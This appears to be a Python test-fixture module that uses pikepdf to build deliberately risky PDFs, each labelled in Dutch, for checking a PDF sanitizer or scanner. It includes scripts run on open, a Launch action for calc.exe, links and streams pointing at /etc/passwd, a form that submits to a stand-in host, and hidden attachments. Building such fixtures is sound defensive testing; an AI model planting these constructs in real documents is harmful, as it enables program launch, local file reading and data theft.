"""PDFs that want something: each made here, with what it hides as a text to look for."""

import io
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

SCRIPT = "app.alert('hallo uit de bijlage')"


def with_text(*texts: str, box: tuple[int, ...] = (0, 0, 595, 842)) -> pikepdf.Pdf:
    """One page per text, in Helvetica."""
    made = pikepdf.new()
    font = Dictionary(
        Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding
    )
    for text in texts:
        content = b"BT /F1 24 Tf 72 %d Td (%s) Tj ET" % (
            max(box[3], 200) - 142,
            text.encode("cp1252"),
        )
        page = Dictionary(
            Type=Name.Page,
            MediaBox=Array(box),
            Resources=Dictionary(Font=Dictionary(F1=font)),
            Contents=made.make_stream(content),
        )
        made.pages.append(pikepdf.Page(made.make_indirect(page)))
    return made


def saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(SCRIPT))


def script_on_open() -> bytes:
    pdf = with_text("Script bij openen")
    pdf.Root.OpenAction = script()
    pdf.Root.AA = Dictionary(WC=script())
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))
    pdf.pages[0].obj.AA = Dictionary(O=script())
    return saved(pdf)


def launch() -> bytes:
    pdf = with_text("Start een programma")
    pdf.pages[0].obj.Annots = Array(
        [
            link(Dictionary(S=Name.Launch, F=String("calc.exe"))),
            link(Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
            link(Dictionary(S=Name.SubmitForm, F=String("https://elders.example/vang"))),
            link(Dictionary(S=Name.URI, URI=String("https://regio.example/verder"))),
        ]
    )
    return saved(pdf)


def link(action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 690, 300, 730], A=action)


def embedded() -> bytes:
    pdf = with_text("Met een bestand erin")
    pdf.attachments["geheim.txt"] = pikepdf.AttachedFileSpec(pdf, b"verborgen inhoud")
    spec = Dictionary(Type=Name.Filespec, EF=Dictionary(F=pdf.make_stream(b"verborgen inhoud")))
    pdf.pages[0].obj.AF = Array([spec])
    pdf.pages[0].obj.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)]
    )
    return saved(pdf)


def form() -> bytes:
    """A field with a value, a script on it, an XFA form and a button that sends."""
    pdf = with_text("Formulier")
    shown = pdf.make_stream(
        b"/Tx BMC BT /F1 12 Tf 2 4 Td (ingevulde waarde) Tj ET EMC",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=[0, 0, 200, 20],
        Resources=pdf.pages[0].obj.Resources,
    )
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("naam"),
            V=String("ingevulde waarde"),
            DA=String("/F1 12 Tf 0 g"),
            F=4,
            Rect=[72, 600, 272, 620],
            AP=Dictionary(N=shown),
            AA=Dictionary(K=script()),
        )
    )
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]),
        XFA=pdf.make_stream(b"<xdp>verborgen inhoud</xdp>"),
        DR=pdf.pages[0].obj.Resources,
    )
    return saved(pdf)


def outside_stream() -> bytes:
    """A picture whose data stands in another file, and a drawn part that names another PDF."""
    pdf = with_text("Data van buiten")
    image = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1)
    image.ColorSpace, image.BitsPerComponent, image.F = Name.DeviceGray, 8, String("/etc/passwd")
    other = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 1, 1])
    other.Ref = Dictionary(F=String("/etc/passwd"), Page=0)
    pdf.pages[0].obj.Resources.XObject = Dictionary(A=image, JS=other)
    return saved(pdf)


def media() -> bytes:
    pdf = with_text("Film")
    pdf.pages[0].obj.Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.RichMedia,
                Rect=[0, 0, 99, 99],
                RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([]))),
            )
        ]
    )
    return saved(pdf)


def huge_page() -> bytes:
    return saved(with_text("Heel groot", box=(0, 0, 9_000_000, 9_000_000)))


def no_size() -> bytes:
    return saved(with_text("Zonder maat", box=(0, 0, 0, 0)))


def no_pages() -> bytes:
    return saved(pikepdf.new())


def encrypted() -> bytes:
    return saved(with_text("Dicht"), encryption=pikepdf.Encryption(owner="baas", user="geheim"))


def without_printing() -> bytes:
    """Opens without a password, but is locked all the same."""
    return saved(with_text("Dicht"), encryption=pikepdf.Encryption(owner="baas", user=""))


def broken() -> bytes:
    return b"%PDF-1.7\n" + b"niets van waarde " * 50


ACTING: dict[str, Callable[[], bytes]] = {
    "Script bij openen": script_on_open,
    "Start een programma": launch,
    "Met een bestand erin": embedded,
    "Formulier": form,
    "Data van buiten": outside_stream,
    "Film": media,
    "Heel groot": huge_page,
    "Zonder maat": no_size,
}
